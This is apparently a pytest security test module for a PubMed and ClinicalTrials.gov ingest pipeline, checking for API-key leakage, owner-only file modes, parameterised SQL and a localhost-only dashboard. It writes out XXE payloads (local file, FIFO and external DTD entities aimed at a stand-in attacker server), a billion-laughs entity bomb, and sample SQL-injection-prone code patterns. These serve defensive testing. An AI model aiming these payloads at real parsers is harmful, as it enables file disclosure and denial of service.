"""Security properties, end to end: hostile XML through the ingest, the NCBI API key in no output,
SQL only ever parameterised, the dashboard on localhost, and owner-only files.

Parser-level XXE and billion-laughs tests live in tests/test_pubmed_parser.py; the HTTP layer's
redaction of the key in its own request parameters in tests/test_http.py; the dashboard's launch
environment in tests/test_dashboard.py. Here the same properties are checked through the whole
pipeline, the CLI and the files it leaves behind."""
from __future__ import annotations

import ast
import dataclasses
import errno
import gzip
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import threading
import time
import urllib.request
from pathlib import Path

import duckdb
import pytest
import requests

from extract.standins import EFETCH_PROLOG, CtGovStandIn, PubMedStandIn
from flows.pipeline import Window
from tests.reliability.support import REPO, FaultsInSequence, cli, cli_env, ingest, make_settings, nights

SECRET_KEY = "NCBI-KEY-5ec7e7-do-not-leak"
SECRET_FILE_TEXT = "TOPSECRET-file-contents-31337"


# --------------------------------------------------------------------------------------------
# Hostile XML through the ingest
# --------------------------------------------------------------------------------------------

class HostilePubMedStandIn(PubMedStandIn):
    """PubMed whose efetch answers carry an attacker's DOCTYPE in place of NLM's."""

    def __init__(self, records, prolog: bytes, **kwargs):
        super().__init__(records, **kwargs)
        self.prolog = prolog

    def _efetch(self, params, empty):
        response = super()._efetch(params, empty)
        if response.status != 200:
            return response
        return dataclasses.replace(response, body=response.body.replace(EFETCH_PROLOG, self.prolog, 1))


class FifoTripwire:
    """A named pipe that notices being opened for reading: while armed, a thread keeps trying a
    non-blocking open for writing, which only succeeds once somebody has it open to read (and then
    feeds the reader, so a parser reading it would not hang)."""

    def __init__(self, path: Path):
        self.path = path
        os.mkfifo(path, 0o600)
        self.opened = False
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self) -> None:
        while not self._stop.is_set():
            try:
                descriptor = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as error:
                if error.errno != errno.ENXIO:
                    raise
                time.sleep(0.005)
                continue
            self.opened = True
            os.write(descriptor, SECRET_FILE_TEXT.encode())
            os.close(descriptor)

    def __enter__(self) -> "FifoTripwire":
        self._thread.start()
        return self

    def __exit__(self, *exc_info) -> None:
        self._stop.set()
        self._thread.join(timeout=5)


def warehouse_text(db: Path) -> str:
    """Every row of every table, as one string (to search for something that must not be there)."""
    with duckdb.connect(str(db), read_only=True) as conn:
        tables = [row[0] for row in conn.execute("SELECT table_name FROM duckdb_tables()").fetchall()]
        return "\n".join(repr(conn.table(name).fetchall()) for name in tables)


def hostile_record(records, title: str):
    """A copy of the first record under a new PMID whose title holds `title` (entity references)."""
    base = records[0]
    pmid = 39_800_001
    xml = base.xml.replace(str(base.pmid).encode(), str(pmid).encode())
    xml = re.sub(rb"<ArticleTitle>.*?</ArticleTitle>", f"<ArticleTitle>{title}</ArticleTitle>".encode(), xml,
                 count=1, flags=re.DOTALL)
    return dataclasses.replace(base, pmid=pmid, xml=xml)


def test_external_entities_and_dtds_are_never_resolved_through_the_ingest(tmp_path, outcome):
    records = nights(20, 20)[0].records
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET_FILE_TEXT)
    with CtGovStandIn([]) as attacker, FifoTripwire(tmp_path / "pipe") as fifo:
        payloads = {
            "xxe-file-entity": (
                f'<?xml version="1.0" ?>\n<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM "{secret.as_uri()}">'
                f'<!ENTITY pipe SYSTEM "{fifo.path.as_uri()}">]>\n', "Ketamine &xxe; &pipe; trial"),
            "xxe-external-dtd": (
                f'<?xml version="1.0" ?>\n<!DOCTYPE PubmedArticleSet SYSTEM "{attacker.url}/evil.dtd">\n',
                "Ketamine &leak; trial"),
            "xxe-parameter-entity": (
                f'<?xml version="1.0" ?>\n<!DOCTYPE PubmedArticleSet [<!ENTITY % remote SYSTEM '
                f'"{attacker.url}/p.dtd"> <!ENTITY % local SYSTEM "{fifo.path.as_uri()}"> %remote; %local;]>\n',
                "Ketamine &leak; trial"),
        }
        results = {}
        for case, (prolog, title) in payloads.items():
            folder = tmp_path / case
            hostile = hostile_record(records, title)
            with HostilePubMedStandIn([*records, hostile], prolog.encode()) as pubmed:
                settings = make_settings(folder, pubmed.url, attacker.url, api_key="test-key")
                started = time.monotonic()
                [summary] = ingest(settings.db_path, settings, Window("full"), sources=["pubmed"])
                seconds = time.monotonic() - started
            with duckdb.connect(str(settings.db_path), read_only=True) as conn:
                stored = conn.execute("SELECT title FROM articles WHERE pmid = ?", [hostile.pmid]).fetchall()
                rejected = conn.execute("SELECT reason FROM rejects WHERE record_id = ?", [str(hostile.pmid)]).fetchall()
                good = conn.execute("SELECT count(*) FROM articles WHERE pmid <> ?", [hostile.pmid]).fetchall()[0][0]
            archived = b"".join(gzip.decompress(p.read_bytes()) for p in settings.archive_dir.rglob("*.gz"))
            leaked = SECRET_FILE_TEXT in warehouse_text(settings.db_path) or SECRET_FILE_TEXT.encode() in archived
            results[case] = (summary, stored, rejected, good, leaked, seconds)
            what = (f"record stored inert, title {stored[0][0]!r}" if stored else
                    f"record rejected: \"{rejected[0][0][:70]}\"" if rejected else "record neither stored nor rejected")
            outcome.record(case, f"run {summary.status} in {seconds:.1f} s; {what}; {good} other records stored; "
                                 f"requests to the attacker's server: {len(attacker.requests)}; "
                                 f"local file/pipe opened: {'YES' if fifo.opened else 'no'}; "
                                 f"file contents in warehouse or archive: {'YES' if leaked else 'no'}")
        fifo_opened, attacker_requests = fifo.opened, len(attacker.requests)

    assert not fifo_opened                      # no local file was ever opened through an entity
    assert attacker_requests == 0               # nor any DTD or entity fetched over the network
    for case, (summary, stored, rejected, good, leaked, _seconds) in results.items():
        assert summary.status == "succeeded", case
        assert good == len(records), case       # the rest of the page is stored
        assert bool(stored) != bool(rejected), case   # the hostile record is either inert or quarantined
        assert not leaked, case   # (a hang would be a parser reading the pipe: fifo_opened above)


LAUGHS = textwrap.dedent("""
    import json, resource, sys, time
    from pathlib import Path
    import duckdb
    from flows.pipeline import Window
    from tests.reliability.support import ingest, make_settings, nights
    from tests.reliability.test_security import HostilePubMedStandIn, hostile_record
    from extract.standins import EFETCH_PROLOG, CtGovStandIn

    folder, mode = Path(sys.argv[1]), sys.argv[2]
    records = nights(20, 20)[0].records
    if mode == "hostile":
        entities = '<!ENTITY lol "lol">' + "".join(
            f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10}">' for i in range(1, 10))
        prolog = f'<?xml version="1.0" ?>\\n<!DOCTYPE PubmedArticleSet [{entities}]>\\n'.encode()
        hostile = hostile_record(records, "Ketamine &lol9; trial")
    else:  # the same page without the payload: the baseline
        prolog, hostile = EFETCH_PROLOG, hostile_record(records, "Ketamine trial")
    with HostilePubMedStandIn([*records, hostile], prolog) as pubmed, CtGovStandIn([]) as ctgov:
        settings = make_settings(folder, pubmed.url, ctgov.url, api_key="k")
        started = time.monotonic()
        [summary] = ingest(settings.db_path, settings, Window("full"), sources=["pubmed"])
        seconds = time.monotonic() - started
    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with duckdb.connect(str(settings.db_path), read_only=True) as conn:
        stored = conn.execute("SELECT title FROM articles WHERE pmid = ?", [hostile.pmid]).fetchall()
        rejected = conn.execute("SELECT reason FROM rejects WHERE record_id = ?", [str(hostile.pmid)]).fetchall()
        good = conn.execute("SELECT count(*) FROM articles WHERE pmid <> ?", [hostile.pmid]).fetchall()[0][0]
    print(json.dumps({"peak_kb": peak_kb, "seconds": seconds, "status": summary.status,
                      "stored": stored, "rejected": rejected, "good": good, "expected_good": len(records)}))
""")
MEMORY_BUDGET_KB = 32 * 1024


def run_laughs(folder: Path, mode: str) -> dict:
    folder.mkdir()
    result = subprocess.run([sys.executable, "-c", LAUGHS, str(folder), mode], cwd=REPO, capture_output=True,
                            text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_billion_laughs_through_the_ingest_stays_small(tmp_path, outcome):
    """Peak memory (ru_maxrss) of a process ingesting the hostile page, against a process ingesting
    the same page without the entity payload. An expansion would show as memory (and as time: the
    child's timeout ends a run that expands for minutes); the run's seconds are recorded, not
    asserted — a shared CI machine's timing is no test."""
    baseline = run_laughs(tmp_path / "benign", "benign")
    measured = run_laughs(tmp_path / "hostile", "hostile")
    delta_kb = measured["peak_kb"] - baseline["peak_kb"]
    what = (f"record stored inert, title {measured['stored'][0][0]!r}" if measured["stored"] else
            f"record rejected: \"{measured['rejected'][0][0][:70]}\"" if measured["rejected"] else "record lost")
    outcome.record("billion-laughs", f"run {measured['status']} in {measured['seconds']:.1f} s "
                                     f"(benign page {baseline['seconds']:.1f} s); peak memory {delta_kb / 1024:+.1f} MB "
                                     f"vs the benign page (budget {MEMORY_BUDGET_KB // 1024} MB); {what}; "
                                     f"{measured['good']} other records stored", delta_kb=delta_kb,
                   hostile=measured, benign=baseline)
    assert baseline["status"] == measured["status"] == "succeeded"
    assert delta_kb < MEMORY_BUDGET_KB
    assert measured["good"] == measured["expected_good"]
    assert bool(measured["stored"]) != bool(measured["rejected"])
    assert "lollollol" not in json.dumps(measured)


# --------------------------------------------------------------------------------------------
# One failing, verbose CLI run with the API key set: no output may contain the key
# --------------------------------------------------------------------------------------------

@dataclasses.dataclass
class SecretRun:
    result: subprocess.CompletedProcess
    data_dir: Path
    db: Path
    prefect_api: str


@pytest.fixture(scope="module")
def secret_run(tmp_path_factory, prefect_api) -> SecretRun:
    """`trialwatch -v ingest` with NCBI_API_KEY set; PubMed answers some requests with 429 (whose
    body, like NCBI's, names the key), 503 and Retry-After, then keeps refusing one efetch past the
    retry budget so PubMed fails; CT.gov recovers from a 503."""
    folder = tmp_path_factory.mktemp("secret")
    night = nights(450, 30)[0]
    pubmed_faults = FaultsInSequence({"esearch": ["429", None, "retry-after", None, "503"],
                                      "efetch": [None, "429", None]}, then={"efetch": "429"})
    with PubMedStandIn(night.records, faults=pubmed_faults) as pubmed, \
            CtGovStandIn(night.studies, faults=FaultsInSequence({"studies": ["503"]})) as ctgov:
        env = cli_env(folder, pubmed, ctgov, prefect_api, NCBI_API_KEY=SECRET_KEY, NCBI_EMAIL="ops@example.org",
                      TRIALWATCH_HTTP_RETRIES="2", TRIALWATCH_HTTP_TIMEOUT="5")
        result = cli("-v", "ingest", "--since", "2000-01-01", env=env)
        assert any(r.params.get("api_key") == SECRET_KEY for r in pubmed.requests)  # the key was really used
    run = SecretRun(result, folder / "data", folder / "data" / "w.duckdb", prefect_api)
    assert result.returncode == 1, result.stderr[-3000:]
    assert "pubmed: FAILED" in result.stdout and "ctgov: fetched" in result.stdout
    assert re.search(r"retry 1/2", result.stderr)                  # retry warnings were logged
    return run


def prefect_parameters(api: str) -> list[str]:
    answer = requests.post(f"{api}/flow_runs/filter", json={"limit": 200}, timeout=30)
    answer.raise_for_status()
    return [json.dumps(run.get("parameters"), default=str) for run in answer.json()]


def places(run: SecretRun) -> dict[str, list[tuple[str, str]]]:
    """Every place the run wrote to, as (where, text) pairs, by case."""
    archive = sorted(p for p in (run.data_dir / "raw").rglob("*") if p.is_file())
    return {
        "secret-logs": [("stderr", run.result.stderr), ("stdout", run.result.stdout)],
        "secret-warehouse": [("warehouse tables (ingest_runs.message …)", warehouse_text(run.db))],
        "secret-archive": [("archive file names", "\n".join(str(p) for p in archive))]
                          + [(f"archived bytes of {p.name}", gzip.decompress(p.read_bytes()).decode("utf-8", "replace"))
                             for p in archive],
        "secret-digest": [(p.name, p.read_text()) for p in sorted((run.data_dir / "digests").glob("*.md"))],
        "secret-feed": [("feeds/new.xml", (run.data_dir / "feeds" / "new.xml").read_text())],
        "secret-prefect": [("Prefect flow-run parameters", "\n".join(prefect_parameters(run.prefect_api)))],
    }


@pytest.mark.parametrize("case", ["secret-logs", "secret-warehouse", "secret-archive", "secret-digest",
                                  "secret-feed", "secret-prefect"])
def test_the_api_key_is_in_no_output_of_a_failing_verbose_run(secret_run, case, outcome):
    texts = places(secret_run)[case]
    leaking = [where for where, text in texts if SECRET_KEY in text]
    checked = ", ".join(where for where, _ in texts[:3]) + (f" and {len(texts) - 3} more" if len(texts) > 3 else "")
    if leaking:
        text = next(text for _, text in texts if SECRET_KEY in text)
        at = text.index(SECRET_KEY)
        shown = " ".join(text[max(0, at - 110):at + len(SECRET_KEY) + 30].split()).replace(SECRET_KEY, "<KEY>")
        outcome.record(case, f"KEY FOUND in {', '.join(leaking[:3])}: `{shown}`")
    else:
        outcome.record(case, f"key absent from {checked} ({sum(len(t) for _, t in texts):,} characters searched)")
    assert texts and all(text for _, text in texts[:1])   # there was something to search
    if case == "secret-prefect":                          # …including this run's own parameters
        assert str(secret_run.data_dir) in texts[0][1] and "ncbi_api_key" in texts[0][1]
    assert not leaking


# --------------------------------------------------------------------------------------------
# Owner-only files
# --------------------------------------------------------------------------------------------

def modes(root: Path) -> dict[str, int]:
    found = {str(root): stat.S_IMODE(root.stat().st_mode)}
    for path in root.rglob("*"):
        found[str(path.relative_to(root))] = stat.S_IMODE(path.stat().st_mode)
    return found


def test_warehouse_archive_digest_and_feed_are_owner_only(secret_run, outcome):
    """The CLI run above created everything under a fresh data folder (the staging copy a killed
    run leaves is checked in test_crash.py)."""
    found = modes(secret_run.data_dir)
    folders = {p: m for p, m in found.items() if (secret_run.data_dir / p).is_dir()}
    files = {p: m for p, m in found.items() if p not in folders}
    kinds = {"warehouse": ["w.duckdb"], "lock": ["w.duckdb.lock"],
             "archive": [p for p in files if p.startswith("raw/")],
             "digests": [p for p in files if p.startswith("digests/")], "feed": ["feeds/new.xml"]}
    wrong = {p: oct(m) for p, m in folders.items() if m != 0o700}
    wrong.update({p: oct(m) for p, m in files.items() if m != 0o600})
    outcome.record("owner-only-files", f"{len(files)} files all 0600, {len(folders)} folders all 0700 "
                   f"({', '.join(f'{k}: {len(v)}' for k, v in kinds.items())})" if not wrong
                   else f"NOT owner-only: {wrong}", files=len(files), folders=len(folders))
    assert all(kinds.values()) and all(p in files for p in ("w.duckdb", "w.duckdb.lock", "feeds/new.xml"))
    assert wrong == {}


# --------------------------------------------------------------------------------------------
# SQL is only ever parameterised
# --------------------------------------------------------------------------------------------

SQL_CALLS = frozenset({"execute", "executemany", "sql", "query"})
SQL_WORDS = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|ALTER|COPY|ATTACH|PRAGMA)\b[\s\S]*"
                       r"\b(FROM|INTO|SET|TABLE|VIEW|DATABASE|AS)\b")
# Module-level constants that build SQL from a fixed whitelist of identifiers (never from input):
# Constants built once at import from a fixed whitelist of table names (never from input).
ALLOWED_BUILT_SQL = {("warehouse/children.py", "DELETE_ROWS"), ("warehouse/children.py", "INSERT_ROWS")}
CHECKED = ("extract", "warehouse", "flows", "dashboard")


def _constant_ref(node: ast.AST) -> bool:
    """A string literal or a reference to an UPPER_CASE constant (possibly indexed), or `+` of those."""
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str)
    if isinstance(node, ast.Name):
        return node.id.isupper()
    if isinstance(node, ast.Attribute):
        return node.attr.lstrip("_").isupper()
    if isinstance(node, ast.Subscript):
        return _constant_ref(node.value)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _constant_ref(node.left) and _constant_ref(node.right)
    return False


def _built(node: ast.AST) -> str | None:
    """How `node` builds a string at run time, or None if it does not."""
    if isinstance(node, ast.JoinedStr):
        return "f-string"
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
        return "% formatting"
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "join"):
        return f".{node.func.attr}()"
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add) and not _constant_ref(node):
        return "+ concatenation"
    return None


def sql_problems(source: str, filename: str) -> list[str]:
    """Every place `source` passes SQL built at run time to execute()/sql(), or builds SQL text
    with f-strings/format/% outside the whitelisted identifier constants."""
    tree = ast.parse(source)
    problems = []
    scopes = [tree, *(n for n in ast.walk(tree) if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)))]
    for scope in scopes:
        assigned: dict[str, list[ast.AST]] = {}
        for node in (scope.body if scope is tree else ast.walk(scope)):
            if isinstance(node, ast.Assign):
                for target in node.targets:
                    if isinstance(target, ast.Name):
                        assigned.setdefault(target.id, []).append(node.value)
            elif isinstance(node, (ast.AugAssign, ast.AnnAssign)) and isinstance(node.target, ast.Name) and node.value:
                value = node.value if isinstance(node, ast.AnnAssign) else ast.BinOp(ast.Name(node.target.id), ast.Add(), node.value)
                assigned.setdefault(node.target.id, []).append(value)
        for node in ast.walk(scope):
            if not (isinstance(node, ast.Call) and isinstance(node.func, (ast.Attribute, ast.Name))):
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else node.func.id
            if name not in SQL_CALLS:
                continue
            args = [*node.args[:1], *(k.value for k in node.keywords if k.arg == "query")]
            for arg in args:
                how = _built(arg)
                if how is None and isinstance(arg, ast.Name) and not arg.id.isupper():
                    how = next((f"{_built(v)} (via `{arg.id}`)" for v in assigned.get(arg.id, []) if _built(v)), None)
                if how:
                    problems.append(f"{filename}:{node.lineno}: {name}() gets SQL built by {how}: {ast.unparse(arg)[:80]}")
    constants = {id(node.value): target.id for node in tree.body if isinstance(node, ast.Assign)
                 for target in node.targets if isinstance(target, ast.Name)}
    for top in tree.body:
        owner = constants.get(id(getattr(top, "value", None)))
        for node in ast.walk(top):
            text = None
            if isinstance(node, ast.JoinedStr):
                text = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
            elif _built(node) in ("% formatting", ".format()") and isinstance(
                    getattr(node, "left", None) or getattr(getattr(node, "func", None), "value", None), ast.Constant):
                literal = node.left if isinstance(node, ast.BinOp) else node.func.value
                text = literal.value if isinstance(literal.value, str) else None
            if text and SQL_WORDS.search(text) and (filename, owner) not in ALLOWED_BUILT_SQL:
                problems.append(f"{filename}:{node.lineno}: SQL text built at run time: {ast.unparse(node)[:80]}")
    return sorted(set(problems))


FORBIDDEN = {
    "f-string": "def f(conn, t):\n    conn.execute(" + "f\"SELECT * FROM {t}\")",  # split: repo greps for the pattern
    "percent": 'def f(conn, x):\n    conn.execute("SELECT * FROM a WHERE b = %s" % x)',
    "format": 'def f(conn, x):\n    conn.execute("SELECT * FROM a WHERE b = {}".format(x))',
    "concatenation": 'def f(conn, x):\n    conn.execute("SELECT * FROM a WHERE b = \'" + x + "\'")',
    "via a variable": 'def f(conn, x):\n    sql = f"DELETE FROM a WHERE b = {x}"\n    return conn.sql(sql)',
    "module sql()": 'import duckdb\ndef f(x):\n    duckdb.sql("SELECT " + x)',
    "keyword": 'def f(conn, x):\n    conn.sql(query="SELECT %s" % x)',
    "built constant": 'QUERY = "SELECT * FROM {}".format(TABLE)',
}
ALLOWED = {
    "parameters": 'def f(conn, x):\n    conn.execute("SELECT * FROM a WHERE b = ?", [x])',
    "named constant": 'Q = "SELECT 1"\ndef f(conn, x):\n    conn.execute(Q, {"x": x})',
    "constant of another module": 'def f(conn, q, kind):\n    sql = q.SOURCES[kind] + q.OPTIONS\n    conn.execute(sql)',
    "statements read from files": 'def f(conn, statements):\n    for s in statements:\n        conn.execute(s, {})',
    "messages": 'def f(path):\n    raise ValueError(f"cannot create the folder for {path}")',
}


def test_the_sql_check_catches_every_forbidden_pattern():
    """The check below is not vacuous: it flags each way of building SQL from values."""
    for name, source in FORBIDDEN.items():
        assert sql_problems(source, "example.py"), name
    for name, source in ALLOWED.items():
        assert sql_problems(source, "example.py") == [], name


def test_sql_is_only_ever_parameterised(outcome):
    paths = sorted(p for folder in CHECKED for p in (REPO / folder).rglob("*.py"))
    problems: list[str] = []
    calls = 0
    for path in paths:
        source = path.read_text()
        problems += sql_problems(source, str(path.relative_to(REPO)))
        calls += sum(1 for n in ast.walk(ast.parse(source)) if isinstance(n, ast.Call)
                     and getattr(n.func, "attr", getattr(n.func, "id", None)) in SQL_CALLS)
    outcome.record("sql-parameterised", f"{calls} execute()/sql() calls in {len(paths)} files: "
                   + ("every one takes constant SQL (values bound as parameters)" if not problems
                      else f"{len(problems)} built at run time: {problems[:3]}"), problems=problems)
    assert paths and calls > 20
    assert problems == []


# --------------------------------------------------------------------------------------------
# The dashboard listens on localhost
# --------------------------------------------------------------------------------------------

def listening_addresses(port: int) -> set[str]:
    """Local addresses of the LISTEN sockets on `port` (from /proc/net/tcp and tcp6)."""
    found = set()
    for table, width in (("/proc/net/tcp", 8), ("/proc/net/tcp6", 32)):
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, _, hex_port = local.partition(":")
            if state == "0A" and int(hex_port, 16) == port:
                raw = bytes.fromhex(address)
                words = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))  # little-endian words
                found.add(socket.inet_ntop(socket.AF_INET if width == 8 else socket.AF_INET6, words))
    return found


def test_the_dashboard_listens_on_localhost_only_by_default(tmp_path, outcome):
    """`trialwatch dashboard` with no Streamlit address set (tests/test_dashboard.py checks the
    environment launch() builds; this checks the socket the server really opened)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith("STREAMLIT_")}
    env.update(STREAMLIT_SERVER_PORT=str(port), TRIALWATCH_DB=str(tmp_path / "w.duckdb"))
    log = tmp_path / "dashboard.log"
    with log.open("w") as out:
        process = subprocess.Popen([sys.executable, "-m", "flows.cli", "dashboard"], cwd=REPO, env=env, stdout=out,
                                   stderr=subprocess.STDOUT, start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while True:
            assert process.poll() is None, log.read_text()[-3000:]
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as answer:
                    if answer.read().strip() == b"ok":
                        break
            except OSError:
                pass
            assert time.monotonic() < deadline, log.read_text()[-3000:]
            time.sleep(0.25)
        addresses = listening_addresses(port)
    finally:
        os.killpg(process.pid, signal.SIGINT)
        try:
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    outcome.record("dashboard-localhost", f"Streamlit listening on {', '.join(sorted(addresses))} port {port} only")
    assert addresses and addresses <= {"127.0.0.1", "::1"}
